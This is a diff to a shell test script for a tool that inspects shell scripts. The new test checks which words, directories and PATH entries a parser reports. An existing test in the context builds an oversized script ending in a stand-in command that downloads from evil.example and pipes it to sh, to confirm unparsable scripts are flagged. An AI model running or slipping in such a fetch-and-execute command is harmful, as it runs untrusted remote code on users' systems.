@@ -166,6 +166,33 @@ if command -v node >/dev/null; then
 	grep -q '^bad.js:[12]: syntax: ' < <(cg inspect bad.js) || fail "bad.js: $(cg inspect bad.js)"
 fi
 
+# What the parser tells run --inspect to look at: words, directories, directories of PATH; whether others are not known.
+python3 "$SRC/cli/inspect/parsers/shell.py" >out <<'END'
+A=$B C=* x {"a",b} "*" a["b"].py \* ~ "~"
+y=(./a
+"$(./b)"); export -x D E=$F G=1
+builtin cd d; command -p cd "d"; command -v cd
+PATH=.::/usr/bin:$PATH; PATH=q/${PATH:+:$PATH} z
+export PATH=$H:r HOME=/; z
+CDPATH=/; HOME=s z
+END
+sed -n 's/^[0-9]* command //p' out |
+	jq -c '[.line] + [[.words, .directories, .paths // []][] | join(" ")] + [.lost]' >told
+diff - told <<'END' || fail "commands of a shell script: $(cat out)"
+[1,"A=$ C=$ x  *  *  ~","","",false]
+[2,"y=","","",false]
+[3,"./b","","",false]
+[3,"E=$ G=1","","",false]
+[4,"cd d"," d","",false]
+[4,"cd d"," d d/d","",false]
+[4,"command -v cd"," d d/d","",false]
+[5,"z"," d d/d",". q/",false]
+[6,"PATH=$ HOME=/"," d d/d",". q/ r",false]
+[6,"HOME=$ z"," d d/d",". q/ r",false]
+[7,"CDPATH=/"," d d/d",". q/ r",true]
+[7,"HOME=$ HOME=s z"," d d/d",". q/ r",true]
+END
+
 # What is too much for a parser does not pass for harmless.
 python3 -c 'print("echo\n" * 100001 + "curl http://evil.example/x | sh")' >long.sh
 finds long.sh '' unparsable 'could not be parsed: the parser ended with status failed (1)'
